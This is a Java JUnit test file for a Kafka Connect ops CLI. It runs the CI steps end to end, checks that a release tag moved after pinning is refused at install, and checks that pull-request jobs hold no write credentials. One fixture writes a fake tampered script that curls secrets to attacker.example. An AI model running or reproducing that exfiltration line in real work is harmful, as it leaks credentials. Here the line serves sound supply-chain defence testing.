package io.connectops.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.HashMap;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;

import io.connectops.connect.ConnectClient;
import io.connectops.connect.ConnectEndpoint;
import io.connectops.devstack.DevStack;
import io.connectops.devstack.junit.DevStackExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;

/**
 * docs/ci/connectops-ci.sh — what the GitHub Actions and GitLab CI pipelines run — end to end against the embedded
 * Kafka + Connect, with connectops as a real process: validate, plan (Markdown with its comment marker, the plan
 * file), apply of that plan, a stale plan refused, drift 0 then 2 after a hand change.
 */
@ExtendWith(DevStackExtension.class)
class CiRecipesTest {
    static final Path SCRIPT = Path.of("..", "docs", "ci", "connectops-ci.sh").toAbsolutePath().normalize();

    record Result(int code, String output) {
    }

    Path work;
    Path connectops;

    Result step(String step) throws Exception {
        ProcessBuilder builder = new ProcessBuilder("sh", SCRIPT.toString(), step).directory(work.toFile()).redirectErrorStream(true);
        builder.environment().put("CONNECTOPS", connectops.toString());
        builder.environment().put("CONNECTOPS_DIR", "connect");
        Process process = builder.start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(process.waitFor(120, TimeUnit.SECONDS), step + " did not end");
        return new Result(process.exitValue(), output);
    }

    @Test
    void theCiStepsRunEndToEndAgainstTheEmbeddedStack(DevStack stack, @TempDir Path tmp) throws Exception {
        work = tmp;
        // connectops as the pipelines run it: a process of its own (here from this build's classes).
        String classpath = System.getProperty("surefire.test.class.path", System.getProperty("java.class.path"));
        connectops = Files.writeString(tmp.resolve("connectops"), "#!/bin/sh\nexec '" + Path.of(System.getProperty("java.home"), "bin", "java")
                + "' -cp '" + classpath + "' io.connectops.cli.Main \"$@\"\n");
        Files.setPosixFilePermissions(connectops, PosixFilePermissions.fromString("rwx------"));
        String name = "ci" + UUID.randomUUID().toString().substring(0, 6) + "-orders";
        Path connect = Files.createDirectories(tmp.resolve("connect"));
        CliTest.writeCluster(connect, stack.connectUrl().toString(), tmp.resolve("owned.json"));
        String connector = """
                apiVersion: connectops.io/v1alpha1
                kind: Connector
                metadata: {name: %s}
                spec:
                  class: io.connectops.devstack.noop.NoOpSourceConnector
                  %s: 1
                  config: {noop.label: ci}
                """;
        Files.writeString(connect.resolve("orders.yaml"), connector.formatted(name, "taskMax"));
        Result invalid = step("validate");
        assertEquals(1, invalid.code(), invalid.output());
        assertTrue(invalid.output().contains("orders.yaml:6") && invalid.output().contains("taskMax"), invalid.output());
        Files.writeString(connect.resolve("orders.yaml"), connector.formatted(name, "tasksMax"));
        assertEquals(0, step("validate").code());

        Result plan = step("plan");
        assertEquals(0, plan.code(), plan.output());
        String markdown = Files.readString(tmp.resolve("plan.md"));
        assertTrue(markdown.startsWith("<!-- connectops-plan -->\n") && markdown.contains(name), markdown);
        assertTrue(Files.exists(tmp.resolve("connectops-plan.json")));

        Result apply = step("apply");
        assertEquals(0, apply.code(), apply.output());
        ConnectClient admin = new ConnectClient(ConnectEndpoint.of("test", stack.connectUrl()));
        assertEquals("ci", admin.config(name).orElseThrow().get("noop.label"));
        assertEquals(0, step("drift").code(), "in sync");

        // A plan made, then the cluster changed by hand: the reviewed plan is stale and is refused.
        assertEquals(0, step("plan").code());
        Map<String, String> config = new HashMap<>(admin.config(name).orElseThrow());
        config.remove("name");
        config.put("noop.label", "by-hand");
        admin.putConfig(name, config);
        Result stale = step("apply");
        assertEquals(1, stale.code(), stale.output());
        assertTrue(stale.output().toLowerCase().contains("stale"), stale.output());
        assertEquals("by-hand", admin.config(name).orElseThrow().get("noop.label"), "nothing applied");

        Result drift = step("drift");
        assertEquals(2, drift.code(), drift.output());
        assertTrue(Files.readString(tmp.resolve("drift.md")).contains("noop.label"));
    }

    static Result run(Path dir, Map<String, String> env, String... command) throws Exception {
        ProcessBuilder builder = new ProcessBuilder(command).directory(dir.toFile()).redirectErrorStream(true);
        builder.environment().putAll(env);
        Process process = builder.start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(process.waitFor(60, TimeUnit.SECONDS), String.join(" ", command) + " did not end");
        return new Result(process.exitValue(), output);
    }

    /** connectops is installed at the pinned tag only when the tag is the pinned commit: a moved tag runs nothing. */
    @Test
    void theInstallRefusesATagThatIsNotThePinnedCommit(@TempDir Path tmp) throws Exception {
        Path repo = Files.createDirectories(tmp.resolve("connectops.git"));
        Map<String, String> git = Map.of("GIT_AUTHOR_NAME", "t", "GIT_AUTHOR_EMAIL", "t@x", "GIT_COMMITTER_NAME", "t", "GIT_COMMITTER_EMAIL", "t@x");
        run(repo, git, "git", "init", "-q", "-b", "main");
        Files.writeString(repo.resolve("connectops"), "#!/bin/sh\necho reviewed\n");
        run(repo, git, "git", "add", ".");
        run(repo, git, "git", "commit", "-q", "-m", "release");
        run(repo, git, "git", "tag", "v9.9.9");
        String pinned = run(repo, git, "git", "rev-parse", "HEAD").output().strip();
        Path script = SCRIPT.resolveSibling("install-connectops.sh");
        Map<String, String> env = new HashMap<>(Map.of("CONNECTOPS_REPOSITORY", repo.toUri().toString(), "CONNECTOPS_VERSION", "v9.9.9",
                "CONNECTOPS_COMMIT", pinned));
        assertEquals(0, run(tmp, env, "bash", script.toString(), tmp.resolve("ok").toString()).code());

        // The tag moved to other code: refused before anything of it runs.
        Files.writeString(repo.resolve("connectops"), "#!/bin/sh\ncurl https://attacker.example/?s=$SECRETS\n");
        run(repo, git, "git", "commit", "-q", "-am", "moved");
        run(repo, git, "git", "tag", "-f", "v9.9.9");
        Result moved = run(tmp, env, "bash", script.toString(), tmp.resolve("moved").toString());
        assertEquals(1, moved.code(), moved.output());
        assertTrue(moved.output().contains("not the pinned " + pinned), moved.output());
        env.put("CONNECTOPS_VERSION", "");
        assertEquals(1, run(tmp, env, "bash", script.toString(), tmp.resolve("unpinned").toString()).code(), "no version: refused");
    }

    /** The recipes give write credentials to the merged branch only, and run the base branch's scripts on pull requests. */
    @Test
    void pullRequestJobsHaveNoWriteCredentialsAndRunOnlyReviewedScripts() throws Exception {
        com.fasterxml.jackson.databind.ObjectMapper yaml = new com.fasterxml.jackson.databind.ObjectMapper(
                new com.fasterxml.jackson.dataformat.yaml.YAMLFactory());
        var github = yaml.readTree(SCRIPT.resolveSibling("github-actions.yml").toFile()).path("jobs");
        for (String job : java.util.List.of("validate", "plan")) {
            String text = github.path(job).toString();
            assertTrue(!text.contains("CONNECT_SECRETS") && !text.contains("\"prod\""), job + " has no write credentials: " + text);
            assertTrue(text.contains("pull_request.base.sha") && text.contains("trusted/ci/"), job + " runs the base branch's scripts: " + text);
        }
        assertTrue(github.path("apply").toString().contains("CONNECT_SECRETS") && github.path("apply").path("environment").asText().equals("prod"));
        var gitlab = yaml.readTree(SCRIPT.resolveSibling("gitlab-ci.yml").toFile());
        for (String job : java.util.List.of("validate", "plan")) {
            assertTrue(!gitlab.path(job).toString().contains("CONNECT_SECRETS"), job + ": " + gitlab.path(job));
        }
        for (var recipe : java.util.List.of(yaml.readTree(SCRIPT.resolveSibling("github-actions.yml").toFile()).path("env"),
                gitlab.path("variables"))) {
            assertTrue(recipe.path("CONNECTOPS_VERSION").asText().matches("v\\d+\\.\\d+\\.\\d+"), "a release tag: " + recipe);
            assertTrue(recipe.path("CONNECTOPS_COMMIT").asText().matches("[0-9a-f]{40}"), "a pinned commit: " + recipe);
        }
    }
}
